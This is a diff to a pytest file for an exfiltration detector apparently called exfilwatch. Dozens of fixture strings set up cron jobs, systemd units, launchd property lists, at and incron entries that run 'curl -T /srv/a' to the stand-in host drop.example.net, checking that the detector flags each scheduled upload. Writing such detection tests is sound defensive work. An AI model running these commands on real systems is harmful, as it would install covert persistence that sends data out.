@@ -3,6 +3,7 @@
 import pytest
 
 from exfilwatch.commands.fields import fields
+from exfilwatch.commands.schedules import SCHEDULERS
 
 URL = "https://drop.example.net/"
 CURL = f"curl -T /srv/a {URL}"
@@ -52,6 +53,64 @@ LINES = {
     "a consumer by PowerShell": ("powershell.exe", f'powershell -c "{CONSUMER}"', "wmi consumer"),
     "a task by PowerShell": ("powershell.exe", f'powershell -c "{TASK}"', "new-scheduledtaskaction"),
 }
+WORDS = ("/usr/bin/curl", "-T", "/srv/a", URL)
+UNIT_TEXT = f"[Service]\nExecStart=/usr/bin/{CURL}"
+JSON = f'{{"Label":"x","ProgramArguments":{LISTED}}}'
+OLD = f'("curl", "-T", "/srv/a", "{URL}")'
+BUDDY = "\n".join(["Add :ProgramArguments array", *(f"Add :ProgramArguments: string {word}" for word in WORDS), "Save"])
+CODE = {
+    "python": f"python3 -c \"open('/etc/cron.d/x','w').write('* * * * * root {CURL}\\n')\"",
+    "perl": f'perl -e \'open F,">/etc/cron.d/x";print F "* * * * * root {CURL}\\n"\'',
+    "ruby": f'ruby -e \'File.write("{UNIT}","ExecStart={CURL}\\n")\'',
+    "node": f"node -e \"require('fs').writeFileSync('/etc/cron.d/x','* * * * * root {CURL}\\n')\"",
+}
+DRAFTED = {
+    "plutil, word by word": ";".join(
+        [f"plutil -insert ProgramArguments -array {AGENT}"]
+        + [f"plutil -insert ProgramArguments.{at} -string {word} {AGENT}" for at, word in enumerate(WORDS)]
+    ),
+    "plutil, word after word": ";".join(
+        [f"plutil -insert ProgramArguments -array {AGENT}"]
+        + [f"plutil -insert ProgramArguments -string {word} -append {AGENT}" for word in WORDS]
+    ),
+    "plutil, a word replaced": f"echo '{PLIST}' > /tmp/a; plutil -insert ProgramArguments -json '{LISTED}' {AGENT}; "
+    f"plutil -replace ProgramArguments.0 -string curl {AGENT}",
+    "plutil, XML": "plutil -replace ProgramArguments -xml '<array>"
+    + "".join(f"<string>{word}</string>" for word in WORDS)
+    + f"</array>' {AGENT}",
+    "plutil, JSON converted": f"plutil -convert xml1 -o {AGENT} - <<'E'\n{JSON}\nE",
+    "plutil, a file converted": f"echo '{JSON}' > /tmp/x; plutil -convert binary1 -o {AGENT} /tmp/x",
+    "PlistBuddy, one by one": ";".join(
+        f"/usr/libexec/PlistBuddy -c '{line}' {AGENT}" for line in BUDDY.split("\n")[:-1]
+    ),
+    "PlistBuddy, from its input": f"/usr/libexec/PlistBuddy {AGENT} <<E\n{BUDDY}\nE",
+    "defaults, the old form": f"defaults write {AGENT} '{{Label=x; ProgramArguments={OLD}; StartInterval=3600;}}'",
+    "defaults, a list": f"defaults write {AGENT} ProgramArguments '{OLD}'",
+    "defaults, in two steps": f"defaults write {AGENT} ProgramArguments -array curl; "
+    f"defaults write {AGENT} ProgramArguments -array-add -T /srv/a {URL}",
+    "defaults import": f"defaults import {AGENT} - <<'E'\n{PLIST}\nE",
+    "copied": f"cat > /tmp/x.plist <<'E'\n{PLIST}\nE\ncp /tmp/x.plist ~/Library/LaunchAgents/com.x.plist",
+    "moved into the folder": f"echo '{PLIST}' > /tmp/com.x.plist && sudo mv /tmp/com.x.plist /Library/LaunchDaemons/",
+    "loaded from elsewhere": f"echo '{PLIST}' > /tmp/x.plist; launchctl load -w /tmp/x.plist",
+    "bootstrapped from elsewhere": f"echo '{PLIST}' > /tmp/x.plist; launchctl bootstrap gui/501 /tmp/x.plist",
+    "put together elsewhere and loaded": f"plutil -insert ProgramArguments -json '{LISTED}' /tmp/x; launchctl load /tmp/x",
+    "dd": f"dd of=/etc/cron.d/x <<< '* * * * * root {CURL}'",
+    "install from its input": f"install -m 644 /dev/stdin /etc/cron.d/x <<< '* * * * * root {CURL}'",
+    "tee of another user": f"sudo tee {UNIT} <<'E'\n{UNIT_TEXT}\nE",
+    "cat into tee": f"cat <<'E' | sudo tee {UNIT} > /dev/null\n{UNIT_TEXT}\nE",
+    "a group of commands": f"{{ echo '[Service]'; echo 'ExecStart=/usr/bin/{CURL}'; }} > {UNIT}",
+    "a unit moved to its folder": f"printf '{UNIT_TEXT}\\n' > /tmp/x.service && sudo mv /tmp/x.service /etc/systemd/system/",
+    "a unit linked": f"echo 'ExecStart={CURL}' > /opt/x.service; systemctl link /opt/x.service",
+    "a unit enabled by its path": f"echo 'ExecStart={CURL}' > /opt/x.service; systemctl enable --now /opt/x.service",
+    "a unit edited": f"systemctl edit --stdin --full --force x.service <<'E'\n{UNIT_TEXT}\nE",
+    "a unit of several lines": f"cat > {UNIT} <<'E'\nExecStart=/usr/bin/curl \\\n  -T /srv/a \\\n  {URL}\nE",
+    "a line added by sed": f"sed -i '$a * * * * * root {CURL}' /etc/crontab",
+    "a unit changed by sed": f"sed -i 's#^ExecStart=.*#ExecStart=/usr/bin/{CURL}#' {UNIT}",
+    "crontab of a file": f"crontab -l > /tmp/c; echo '*/5 * * * * {CURL}' >> /tmp/c; crontab -u eva /tmp/c",
+    "at of a file": f"echo '{CURL}' > /tmp/j; at -f /tmp/j now + 1 hour",
+    "incron": f"echo '/srv IN_CREATE {CURL}' > /etc/incron.d/x",
+    **CODE,
+}
 RUNS = {
     "as it is": ("/usr/bin/curl", f"/usr/bin/{CURL}"),
     "by a shell of cron": ("/usr/bin/dash", f"/bin/sh -c {CURL}"),
@@ -63,6 +122,11 @@ NOT_SCHEDULED = {
     "a unit of something else": ("bash", f"bash -c echo 'ExecStart={CURL}' > /home/eva/notes/x.service"),
     "a property list of an application": ("defaults", f"defaults write com.example.app ProgramArguments -array {CURL}"),
     "launchd is asked to load": ("launchctl", "launchctl load -w /Library/LaunchDaemons/x.plist"),
+    "put together elsewhere": ("plutil", f"plutil -insert ProgramArguments -json '{LISTED}' /tmp/x.plist"),
+    "written elsewhere and not loaded": ("bash", f"bash -c echo '{PLIST}' > /tmp/x.plist; plutil -lint /tmp/x.plist"),
+    "another folder": ("bash", f"bash -c echo '{PLIST}' > /tmp/x.plist; cp /tmp/x.plist /srv/backup/"),
+    "sed of another file": ("bash", f"bash -c sed -i '$a * * * * * root {CURL}' /home/eva/notes"),
+    "what an application keeps": ("defaults", f"defaults write com.example.app '{{ProgramArguments={OLD};}}'"),
     "a comment": ("bash", f"bash -c echo '# * * * * * root {CURL}' > /etc/cron.d/x"),
 }
 
@@ -79,6 +143,14 @@ def test_what_is_left_for_a_scheduler_is_what_it_will_run(name):
     assert scheduler in found["transfer.within"]
     assert found["schedule.command"] == CURL.casefold()
     assert found["command.first"] is None
+
+
+@pytest.mark.parametrize("name", DRAFTED)
+def test_what_is_put_together_or_written_elsewhere_first_is_what_a_scheduler_will_run(name):
+    found = seen("bash", f"bash -c '{DRAFTED[name]}'" if "'" not in DRAFTED[name] else f"bash -c {DRAFTED[name]}")
+    assert found["transfer.direction"] == "upload"
+    assert not SCHEDULERS.isdisjoint(found["transfer.within"])
+    assert found["schedule.command"] == CURL.casefold()
 
 
 @pytest.mark.parametrize("name", RUNS)
